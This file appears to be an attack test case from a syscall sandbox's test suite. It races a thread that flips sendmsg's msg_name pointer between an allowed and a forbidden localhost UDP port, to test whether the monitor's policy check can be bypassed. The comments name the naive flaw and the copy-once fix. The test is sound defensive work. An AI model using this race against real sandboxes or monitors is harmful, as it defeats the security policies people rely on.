// attack: msghdr-nested-race
// class: races
// severity: critical
// models: naive canonical
// trap: sendmsg takes a struct that points to an address that another thread exchanges: the msg_name
//   pointer flips between two addresses, or the page with the struct is unmapped at the moment of
//   the check, so that the monitor's read fails.
// naive: Reads the same field twice; or a failed read lets the call go on.
// kernel: copy_msghdr_from_user copies the header, then follows its pointers.
// sealed: Header, address and vectors are copied once, nested pointers rewritten to the copies.
// source: Watson, WOOT 2007; sandlock#28, #97
// time: 4000
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network allow udp connect,send 127.0.0.1:$OK_UDP
// report: 127.0.0.1:$UDP
#include <atomic>
#include <thread>
#include "tests/support/attack.h"

namespace attack {
namespace {

long race(int good_port, int bad_port) {
  static sockaddr_in good;
  static sockaddr_in bad;
  good = v4("127.0.0.1", good_port);
  bad = v4("127.0.0.1", bad_port);
  static char byte = 'x';
  static iovec vector{&byte, 1};
  static mmsghdr message{};
  message.msg_hdr.msg_name = &good;
  message.msg_hdr.msg_namelen = sizeof good;
  message.msg_hdr.msg_iov = &vector;
  message.msg_hdr.msg_iovlen = 1;
  auto* name = const_cast<void* volatile*>(&message.msg_hdr.msg_name);
  std::atomic<bool> stop{false};
  std::thread other([&] {
    while (!stop.load(std::memory_order_relaxed)) {
      *name = &bad;
      *name = &good;
    }
  });
  int s = ::socket(AF_INET, SOCK_DGRAM, 0);
  long sent = 0;
  for (Stopwatch watch; watch.running() && sent < 100000;) {
    if (::sendmsg(s, &message.msg_hdr, 0) == 1) ++sent;
    if (::sendmmsg(s, &message, 1, 0) == 1) ++sent;
  }
  stop = true;
  other.join();
  return sent;
}

}  // namespace

// The prey is the contact, which only the driver sees.
void strike() {
  long sent = race(number("ATTACK_OK_UDP"), number("ATTACK_UDP"));
  std::printf("sent %ld\n", sent);
  must(sent > 0, "none got through");
  errno = 0;
  held("the listener will tell");
}

void twin() {
  int port = number("ATTACK_OK_UDP");
  must(race(port, port) > 20, "sends");
  int s = ::socket(AF_INET, SOCK_DGRAM, 0);
  must(::sendmsg(s, reinterpret_cast<msghdr*>(8), 0) == -1 && errno == EFAULT, "bad header is EFAULT");
  sockaddr_in address = v4("127.0.0.1", port);
  msghdr message{};
  message.msg_name = &address;
  message.msg_namelen = sizeof address;
  message.msg_iov = reinterpret_cast<iovec*>(8);
  message.msg_iovlen = 1;
  must(::sendmsg(s, &message, 0) == -1 && errno == EFAULT, "bad vector is EFAULT");
  twin_ok();
}

}  // namespace attack
